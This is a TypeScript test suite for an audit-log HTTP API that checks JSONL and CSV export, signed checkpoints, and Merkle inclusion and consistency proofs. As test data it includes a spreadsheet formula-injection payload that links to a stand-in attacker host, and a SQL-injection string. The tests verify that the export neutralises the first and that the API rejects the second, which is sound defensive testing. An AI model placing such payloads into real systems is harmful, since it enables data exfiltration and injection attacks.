import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { createAuditApp } from '../../src/http.js'
import {
  type AuditLog,
  type ConsistencyProof,
  createAuditLog,
  type Entry,
  entryCsvHeader,
  entryCsvLine,
  entryJsonLine,
  generateKeyPair,
  type InclusionProof,
  verifierKey,
  verifyConsistencyProof,
  verifyEntryInclusion,
  verifyExport,
} from '../../src/index.js'
import * as browser from '../../src/verify.js'
import { httpEngines } from './http-engines.js'

const KEYS = generateKeyPair()
const user = () => crypto.randomUUID()
const engines = await httpEngines('http_export')

/** A client of the app: GET with a key, and the problem+json check every error shares. */
function client(app: () => ReturnType<typeof createAuditApp>, key: () => string) {
  const get = (path: string) => app().request(path, { headers: { Authorization: `Bearer ${key()}` } })
  async function expectProblem(res: Response, status: number, fields?: string[]): Promise<Record<string, unknown>> {
    expect(res.status).toBe(status)
    expect(res.headers.get('Content-Type')).toBe('application/problem+json')
    expect(res.headers.get('Content-Disposition')).toBeNull()
    const body = (await res.json()) as Record<string, unknown>
    expect(body).toMatchObject({ type: 'about:blank', status, title: expect.any(String), detail: expect.any(String) })
    if (fields !== undefined) expect((body.errors as { field: string }[]).map((e) => e.field)).toEqual(fields)
    return body
  }
  return { get, expectProblem }
}

async function collect<T>(items: AsyncIterable<T>): Promise<T[]> {
  const out: T[] = []
  for await (const item of items) out.push(item)
  return out
}

type ProofBody = { entry: Entry & { insertedAt: string }; proof: InclusionProof; checkpoint: string }

for (const engine of engines) {
  describe.skipIf(engine.skip !== undefined)(
    `auditkit/http export and proofs: ${engine.name}${engine.skip ? ` (skipped: ${engine.skip})` : ''}`,
    () => {
      let audit: AuditLog
      let drop: () => Promise<void>
      let app: ReturnType<typeof createAuditApp>
      let readKey: string
      const { get, expectProblem } = client(
        () => app,
        () => readKey,
      )
      beforeAll(async () => {
        ;({ audit, drop } = await engine.open({ signingKey: KEYS.privateKey }))
        app = createAuditApp({ audit: audit as unknown as AuditLog<string> })
        readKey = (await audit.createApiKey({ name: 'reader', scopes: ['read'] })).key
      })
      afterAll(async () => {
        await audit.close()
        await drop()
      })

      const hostile = `=HYPERLINK("http://evil.example/?"&A1,"click"), "quoted"\r\nsecond line`
      test('GET /v1/events/export streams every match as JSONL or CSV, the same bytes as iterateLogs and the shared line functions', async () => {
        const admin = user()
        const inputs = Array.from({ length: 700 }, (_, i) => ({
          targetUserUuid: user(),
          adminUserUuid: i % 2 === 0 ? admin : user(),
          action: i % 3 === 0 ? ('user_locked' as const) : ('user_created' as const),
          ipAddress: '203.0.113.7',
          userAgent: i === 10 ? hostile : `agent ${i}, with a comma`,
          metadata: { i, note: '-1+1 "quoted", @mention', nested: { list: [1, 'two'] } },
        }))
        await audit.createLogEntries(inputs)

        // Unfiltered: well over one 64 KiB chunk.
        const all = await get('/v1/events/export')
        expect(all.status).toBe(200)
        expect(all.headers.get('Content-Type')).toBe('application/x-ndjson')
        expect(all.headers.get('Content-Disposition')).toBe('attachment; filename="auditkit-export.jsonl"')
        const expectedAll = (await collect(audit.iterateLogs())).map(entryJsonLine).join('')
        expect(expectedAll.length).toBeGreaterThan(3 * 64 * 1024)
        expect(await all.text()).toBe(expectedAll)

        const filters = `adminUserUuid=${admin}&action=user_locked`
        const matching = await collect(audit.iterateLogs({ adminUserUuid: admin, action: 'user_locked' }))
        expect(matching.length).toBeGreaterThan(100)
        const jsonl = await get(`/v1/events/export?format=jsonl&${filters}`)
        expect(await jsonl.text()).toBe(matching.map(entryJsonLine).join(''))

        const csv = await get(`/v1/events/export?${filters}&format=csv`)
        expect(csv.status).toBe(200)
        expect(csv.headers.get('Content-Type')).toBe('text/csv; charset=utf-8')
        expect(csv.headers.get('Content-Disposition')).toBe('attachment; filename="auditkit-export.csv"')
        const text = await csv.text()
        expect(text).toBe(entryCsvHeader() + matching.map(entryCsvLine).join(''))
        const rows = parse(text, { columns: true }) as Record<string, string>[]
        expect(rows.map((r) => r.uuid)).toEqual(matching.map((e) => e.uuid))
        expect(rows[0]).toEqual({
          uuid: matching[0]?.uuid,
          seq: '',
          insertedAt: matching[0]?.insertedAt.toISOString(),
          action: 'user_locked',
          adminUserUuid: admin,
          targetUserUuid: matching[0]?.targetUserUuid,
          ipAddress: '203.0.113.7',
          userAgent: matching[0]?.userAgent,
          metadata: JSON.stringify(matching[0]?.metadata),
        })

        // The hostile user agent (entry 10: admin, user_created) comes back as text, not a formula.
        const created = parse(
          await (await get(`/v1/events/export?format=csv&adminUserUuid=${admin}&action=user_created`)).text(),
          { columns: true },
        ) as Record<string, string>[]
        const cell = created.find((r) => r.userAgent?.includes('HYPERLINK'))?.userAgent
        expect(cell).toBe(`'${hostile}`)
        const jsonHostile = (await (await get(`/v1/events/export?adminUserUuid=${admin}&action=user_created`)).text())
          .trim()
          .split('\n')
          .map((l) => JSON.parse(l) as { userAgent: string })
        expect(jsonHostile.some((e) => e.userAgent === hostile)).toBe(true)
      })

      test('GET /v1/events/export: a bad parameter is a 400 problem+json, not a download', async () => {
        await expectProblem(await get('/v1/events/export?format=xml'), 400, ['format'])
        await expectProblem(await get('/v1/events/export?format=csv&format=jsonl'), 400, ['format'])
        await expectProblem(await get('/v1/events/export?action=nope'), 400, ['action'])
        await expectProblem(await get('/v1/events/export?limit=1&limit=2'), 400, ['limit'])
        await expectProblem(await get('/v1/events/export?fromDate=yesterday'), 400, ['fromDate'])
        await expectProblem(await get('/v1/events/export?sort=asc&format=csv'), 400, ['sort'])
        await expectProblem(await get('/v1/events/export?batchSize=5'), 400, ['batchSize'])
        await expectProblem(await get("/v1/events/export?targetUserUuid=' OR 1=1 --"), 400, ['targetUserUuid'])
        const none = await app.request('/v1/events/export')
        expect(none.status).toBe(401)
      })

      test('GET /v1/log/export streams exportLog(), which verifyExport accepts against a checkpoint', async () => {
        await audit.seal()
        const cp = await audit.checkpoint()
        const res = await get('/v1/log/export')
        expect(res.status).toBe(200)
        expect(res.headers.get('Content-Type')).toBe('application/x-ndjson')
        expect(res.headers.get('Content-Disposition')).toMatch(/^attachment; filename=".+\.jsonl"$/)
        const text = await res.text()
        const library = await collect(audit.exportLog())
        expect(text).toBe(library.map((l) => `${l}\n`).join(''))
        const lines = text.split('\n').filter((l) => l !== '')
        expect(lines).toHaveLength(cp.treeSize)
        expect(await verifyExport(lines, cp.note, KEYS.publicKey)).toMatchObject({ ok: true, entries: cp.treeSize })

        const part = await (await get('/v1/log/export?fromSeq=2&toSeq=5')).text()
        expect(part).toBe((await collect(audit.exportLog({ fromSeq: 2, toSeq: 5 }))).map((l) => `${l}\n`).join(''))
        expect(part.split('\n')).toHaveLength(4)

        await expectProblem(await get('/v1/log/export?fromSeq=-1'), 400, ['fromSeq'])
        await expectProblem(await get('/v1/log/export?fromSeq=1e3'), 400, ['fromSeq'])
        await expectProblem(await get('/v1/log/export?fromSeq=5&toSeq=2'), 400, ['toSeq'])
        await expectProblem(await get('/v1/log/export?fromSeq=1&fromSeq=2'), 400, ['fromSeq'])
        await expectProblem(await get('/v1/log/export?format=csv'), 400, ['format'])
      })

      test('GET /v1/events/{uuid}/proof: entry, proof and a covering checkpoint that both verifiers accept; 409 unsealed; 404 unknown', async () => {
        const old = await audit.checkpoint()
        const entry = await audit.createLogEntry({
          targetUserUuid: user(),
          adminUserUuid: user(),
          action: 'user_locked',
          userAgent: hostile,
          metadata: { why: 'proof' },
        })
        const unsealed = await expectProblem(await get(`/v1/events/${entry.uuid}/proof`), 409)
        expect(unsealed.detail).toMatch(/not sealed yet/)
        await expectProblem(await get(`/v1/events/${user()}/proof`), 404)
        await expectProblem(await get('/v1/events/not-a-uuid/proof'), 400)
        await expectProblem(await get(`/v1/events/${entry.uuid}/proof?x=1`), 400)

        await audit.seal()
        const before = (await audit.listCheckpoints({ limit: 1000 })).length
        const res = await get(`/v1/events/${entry.uuid}/proof`)
        expect(res.status).toBe(200)
        const body = (await res.json()) as ProofBody
        // The newest checkpoint did not cover the new entry: a fresh one was signed for it.
        expect((await audit.listCheckpoints({ limit: 1000 })).length).toBe(before + 1)
        const latest = await audit.latestCheckpoint()
        expect(body.checkpoint).toBe(latest?.note)
        expect(latest?.treeSize).toBeGreaterThan(old.treeSize)
        expect(body.entry).toEqual({ ...entry, seq: old.treeSize, insertedAt: entry.insertedAt.toISOString() })
        expect(body.proof).toEqual(await audit.proveInclusion(entry.uuid, latest?.treeSize))

        const origin = old.origin
        expect(verifyEntryInclusion(body.entry, body.proof, body.checkpoint, KEYS.publicKey, { origin })).toMatchObject(
          { ok: true },
        )
        const vkey = verifierKey(KEYS.publicKey, origin)
        expect(
          await browser.verifyEntryInclusion(body.entry, body.proof, body.checkpoint, vkey, { origin }),
        ).toMatchObject({ ok: true })
        const edited = { ...body.entry, userAgent: 'someone else' }
        expect(verifyEntryInclusion(edited, body.proof, body.checkpoint, KEYS.publicKey, { origin }).ok).toBe(false)

        // Covered now: asked again, nothing new is signed.
        expect((await get(`/v1/events/${entry.uuid}/proof`)).status).toBe(200)
        expect((await audit.listCheckpoints({ limit: 1000 })).length).toBe(before + 1)
      })

      test('proofs asked for at once share one fresh checkpoint, signed at most once a second', async () => {
        const fresh = await audit.createLogEntries(
          Array.from({ length: 5 }, () => ({ targetUserUuid: user(), adminUserUuid: user(), action: 'user_created' })),
        )
        await audit.seal()
        const before = (await audit.listCheckpoints({ limit: 1000 })).length
        const answers = await Promise.all(fresh.map((e) => get(`/v1/events/${e.uuid}/proof`)))
        expect(answers.map((r) => r.status)).toEqual([200, 200, 200, 200, 200])
        const bodies = (await Promise.all(answers.map((r) => r.json()))) as ProofBody[]
        expect(new Set(bodies.map((b) => b.checkpoint)).size).toBe(1)
        expect((await audit.listCheckpoints({ limit: 1000 })).length).toBe(before + 1)
      })

      test('GET /v1/log/proofs proves a page of entries against one checkpoint; unsealed and unknown ones are said so', async () => {
        const page = await audit.createLogEntries(
          Array.from({ length: 12 }, (_, i) => ({
            targetUserUuid: user(),
            adminUserUuid: user(),
            action: 'user_updated',
            userAgent: i === 0 ? hostile : null,
            metadata: { i },
          })),
        )
        await audit.seal()
        const late = await audit.createLogEntry({
          targetUserUuid: user(),
          adminUserUuid: user(),
          action: 'user_created',
        })
        const unknown = user()
        const asked = [...page.map((e) => e.uuid), late.uuid, unknown]
        const res = await get(`/v1/log/proofs?${asked.map((u) => `uuid=${u}`).join('&')}`)
        expect(res.status).toBe(200)
        const body = (await res.json()) as {
          checkpoint: string
          treeSize: number
          proofs: ({ uuid: string; seq: number; proof: InclusionProof } | { uuid: string; status: string })[]
        }
        expect(body.proofs.map((p) => p.uuid)).toEqual(asked)
        expect(body.proofs.at(-2)).toEqual({ uuid: late.uuid, status: 'unsealed' })
        expect(body.proofs.at(-1)).toEqual({ uuid: unknown, status: 'not_found' })
        const origin = (await audit.latestCheckpoint())?.origin as string
        const vkey = verifierKey(KEYS.publicKey, origin)
        for (const [i, entry] of page.entries()) {
          const answer = body.proofs[i] as { seq: number; proof: InclusionProof }
          expect(answer.proof.treeSize).toBe(body.treeSize)
          const shown = { ...entry, seq: answer.seq, insertedAt: entry.insertedAt.toISOString() }
          expect(
            await browser.verifyEntryInclusion(shown, answer.proof, body.checkpoint, vkey, { origin }),
          ).toMatchObject({
            ok: true,
          })
        }
        // An entry shown with other content than it was sealed with fails against the same proof.
        const first = body.proofs[0] as { proof: InclusionProof }
        const forged = { ...page[0], userAgent: 'someone else', insertedAt: page[0]?.insertedAt.toISOString() }
        expect(verifyEntryInclusion(forged, first.proof, body.checkpoint, KEYS.publicKey, { origin }).ok).toBe(false)

        // (Signing that checkpoint sealed `late` too.) With no entry sealed, there is no checkpoint.
        const later = await audit.createLogEntry({
          targetUserUuid: user(),
          adminUserUuid: user(),
          action: 'user_created',
        })
        const none = (await (await get(`/v1/log/proofs?uuid=${later.uuid}`)).json()) as Record<string, unknown>
        expect(none).toEqual({ checkpoint: null, treeSize: null, proofs: [{ uuid: later.uuid, status: 'unsealed' }] })
        await expectProblem(await get('/v1/log/proofs'), 400, ['uuid'])
        await expectProblem(await get(`/v1/log/proofs?${Array(101).fill(`uuid=${late.uuid}`).join('&')}`), 400, [
          'uuid',
        ])
        await expectProblem(await get(`/v1/log/proofs?uuid=${late.uuid}&uuid=nope`), 400, ['uuid[1]'])
        await expectProblem(await get(`/v1/log/proofs?uuid=${late.uuid}&limit=1`), 400, ['limit'])
      })

      test('GET /v1/log/consistency proves two checkpoints consistent; bad sizes are 400', async () => {
        const first = await audit.checkpoint()
        await audit.createLogEntry({ targetUserUuid: user(), adminUserUuid: user(), action: 'user_created' })
        const second = await audit.checkpoint()
        const res = await get(`/v1/log/consistency?from=${first.treeSize}&to=${second.treeSize}`)
        expect(res.status).toBe(200)
        const proof = (await res.json()) as ConsistencyProof
        expect(proof).toEqual(await audit.proveConsistency(first.treeSize, second.treeSize))
        expect(verifyConsistencyProof(proof, first.note, second.note, KEYS.publicKey)).toMatchObject({ ok: true })
        const vkey = verifierKey(KEYS.publicKey, first.origin)
        expect(await browser.verifyConsistencyProof(proof, first.note, second.note, vkey)).toMatchObject({ ok: true })

        const size = second.treeSize
        await expectProblem(await get('/v1/log/consistency?from=abc&to=3'), 400, ['from'])
        await expectProblem(await get('/v1/log/consistency?from=1.5&to=3'), 400, ['from'])
        await expectProblem(await get('/v1/log/consistency?from=-1&to=3'), 400, ['from'])
        await expectProblem(await get('/v1/log/consistency?from=1e1&to=0x10'), 400, ['from', 'to'])
        await expectProblem(await get('/v1/log/consistency?from=1'), 400, ['to'])
        await expectProblem(await get('/v1/log/consistency?from=1&to=2&x=3'), 400, ['x'])
        await expectProblem(await get('/v1/log/consistency?from=1&from=1&to=2'), 400, ['from'])
        await expectProblem(await get(`/v1/log/consistency?from=1&to=${size + 1}`), 400, ['to'])
        await expectProblem(await get('/v1/log/consistency?from=3&to=2'), 400, ['from'])
      })
    },
  )
}

describe('auditkit/http proofs without a signing key', () => {
  test('a sealed entry with no checkpoint to be had is a 409 that says why', async () => {
    const audit = await createAuditLog({ database: 'sqlite::memory:', sealIntervalMs: 0 })
    const app = createAuditApp({ audit: audit as unknown as AuditLog<string> })
    const key = (await audit.createApiKey({ name: 'reader', scopes: ['read'] })).key
    const { get, expectProblem } = client(
      () => app,
      () => key,
    )
    const entry = await audit.createLogEntry({ targetUserUuid: user(), adminUserUuid: user(), action: 'user_created' })
    await audit.seal()
    const body = await expectProblem(await get(`/v1/events/${entry.uuid}/proof`), 409)
    expect(body.detail).toMatch(/no signing key/)
    await audit.close()
  })
})

describe('auditkit/http export over a real socket', () => {
  let audit: AuditLog
  let server: ReturnType<typeof createServer>
  let base: string
  let key: string
  beforeAll(async () => {
    audit = await createAuditLog({ database: 'sqlite::memory:', sealIntervalMs: 0 })
    key = (await audit.createApiKey({ name: 'reader', scopes: ['read'] })).key
    const app = createAuditApp({ audit: audit as unknown as AuditLog<string> })
    // A minimal Node.js adapter (what @hono/node-server does, without its niceties): the body is
    // written as the app's stream yields it, waiting for 'drain' when the socket is full.
    server = createServer(async (req, res) => {
      const r = await app.fetch(
        new Request(`http://x${req.url}`, { method: req.method, headers: req.headers as Record<string, string> }),
      )
      res.writeHead(r.status, Object.fromEntries(r.headers))
      if (r.body) {
        for await (const chunk of r.body) {
          if (!res.write(chunk)) await new Promise((resolve) => res.once('drain', resolve))
        }
      }
      res.end()
    })
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
  })
  afterAll(async () => {
    await new Promise((resolve) => server.close(resolve))
    await audit.close()
  })

  test('50,000 entries stream out as JSONL and CSV, one line each', { timeout: 30_000 }, async () => {
    const admin = user()
    for (let i = 0; i < 50; i++) {
      await audit.createLogEntries(
        Array.from({ length: 1000 }, (_, j) => ({
          targetUserUuid: user(),
          adminUserUuid: admin,
          action: 'user_created',
          metadata: { i, j },
        })),
      )
    }
    const headers = { Authorization: `Bearer ${key}` }
    const jsonl = await fetch(`${base}/v1/events/export`, { headers })
    expect(jsonl.status).toBe(200)
    expect(jsonl.headers.get('content-disposition')).toBe('attachment; filename="auditkit-export.jsonl"')
    let lines = 0
    let chunks = 0
    let tail = ''
    const decoder = new TextDecoder()
    for await (const chunk of jsonl.body as ReadableStream<Uint8Array>) {
      chunks++
      const text = tail + decoder.decode(chunk, { stream: true })
      const parts = text.split('\n')
      tail = parts.pop() ?? ''
      lines += parts.length
    }
    expect(tail).toBe('')
    expect(lines).toBe(50_000)
    expect(chunks).toBeGreaterThan(10)

    const csv = await (await fetch(`${base}/v1/events/export?format=csv&adminUserUuid=${admin}`, { headers })).text()
    expect(csv.split('\r\n')).toHaveLength(50_000 + 2)

    const bad = await fetch(`${base}/v1/events/export?format=xml`, { headers })
    expect(bad.status).toBe(400)
    expect(bad.headers.get('content-type')).toBe('application/problem+json')
  })
})
